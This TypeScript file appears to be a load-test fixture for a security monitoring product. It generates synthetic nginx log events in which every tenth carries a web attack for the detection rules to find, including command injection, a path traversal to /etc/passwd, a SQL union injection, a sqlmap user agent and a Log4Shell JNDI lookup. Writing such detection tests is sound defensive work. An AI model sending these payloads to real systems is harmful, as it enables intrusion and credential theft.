import { setTimeout } from 'node:timers/promises';
import { eventually, type RunningServer } from '../../e2e/server.ts';
import { documents } from '../lines.ts';

export const eventCount = 1_000_000;
/** Every tenth event is an attack on a host by an account that no other event names, and so an alert of its own. */
export const perAlert = 10;
export const alertCount = eventCount / perAlert;

const perRequest = 1_000;
/** Between two events, as `documents` makes them. */
export const stepMs = 20;
const hosts = 1_000;

/** What a request carries that a shipped rule finds, of each severity. */
const attacks: readonly { readonly query: string; readonly agent: string }[] = [
  { query: 'cmd=id', agent: 'curl/8.5.0' },
  { query: 'file=../../../../etc/passwd', agent: 'Mozilla/5.0' },
  { query: 'id=1+union+select+name,hash+from+accounts', agent: 'Mozilla/5.0' },
  { query: 'page=1', agent: 'sqlmap/1.8.2#stable' },
  { query: 'x=%24{jndi:ldap://203.0.113.9/a}', agent: 'Mozilla/5.0' },
];

/** The account and host of an attack; the same number gives the same. */
const targetOf = (attack: number) => ({
  host: `shop-${String(attack % hosts).padStart(3, '0')}`,
  user: `customer-${String(Math.floor(attack / hosts)).padStart(2, '0')}`,
});

function attackOn(document: string, attack: number): string {
  const { query, agent } = attacks[attack % attacks.length] as (typeof attacks)[number];
  const { host, user } = targetOf(attack);
  const event = JSON.parse(document);
  const path = event.url.path;
  return JSON.stringify({
    ...event,
    event: { ...event.event, dataset: 'nginx.access' },
    host: { name: host },
    user: { name: user },
    url: { path, query, original: `${path}?${query}` },
    user_agent: { original: agent },
    message: `GET ${path}?${query} HTTP/1.1`,
  });
}

/** Documents of `count` events from `first` on, every tenth an attack. */
export const texts = (first: number, count: number, start: number): string[] =>
  documents(count, 1 + first, start + first * stepMs).map((text, i) => {
    const number = first + i;
    return number % perAlert === 0 ? attackOn(text, number / perAlert) : text;
  });

/** A `_bulk` body of them. */
const body = (first: number, count: number, start: number): string =>
  texts(first, count, start)
    .map((text) => `{"create":{}}\n${text}\n`)
    .join('');

/** Sends one event, or several, until they are taken. */
export async function send({ ingest }: Pick<RunningServer, 'ingest'>, lines: string): Promise<void> {
  for (;;) {
    const response = await fetch(`${ingest}/bench/_bulk`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-ndjson' },
      body: lines,
    });
    const answer = await response.text();
    if (response.ok) {
      if ((JSON.parse(answer) as { errors: boolean }).errors) throw new Error(answer.slice(0, 1_000));
      return;
    }
    if (response.status !== 429 && response.status !== 503)
      throw new Error(`_bulk answered ${response.status}: ${answer.slice(0, 1_000)}`);
    await setTimeout(200);
  }
}

/** Events of the last hours through the real input, and an alert for each tenth that the shipped rules find in them. */
export async function fill(server: RunningServer, events: number): Promise<void> {
  const start = Date.now() - events * stepMs;
  let next = 0;
  const connection = async () => {
    for (let first = next; first < events; first = next) {
      next += perRequest;
      await send(server, body(first, Math.min(perRequest, events - first), start));
    }
  };
  await Promise.all([connection(), connection()]);
  await arrived(server, 'events', events);
  await arrived(server, 'alerts', events / perAlert);
}

const arrived = (server: RunningServer, list: 'events' | 'alerts', count: number) =>
  eventually(
    () => server.api<{ total: number }>(`/api/${list}?limit=1&from=now-24h`),
    ({ total }) => total >= count,
    120,
    250,
  );
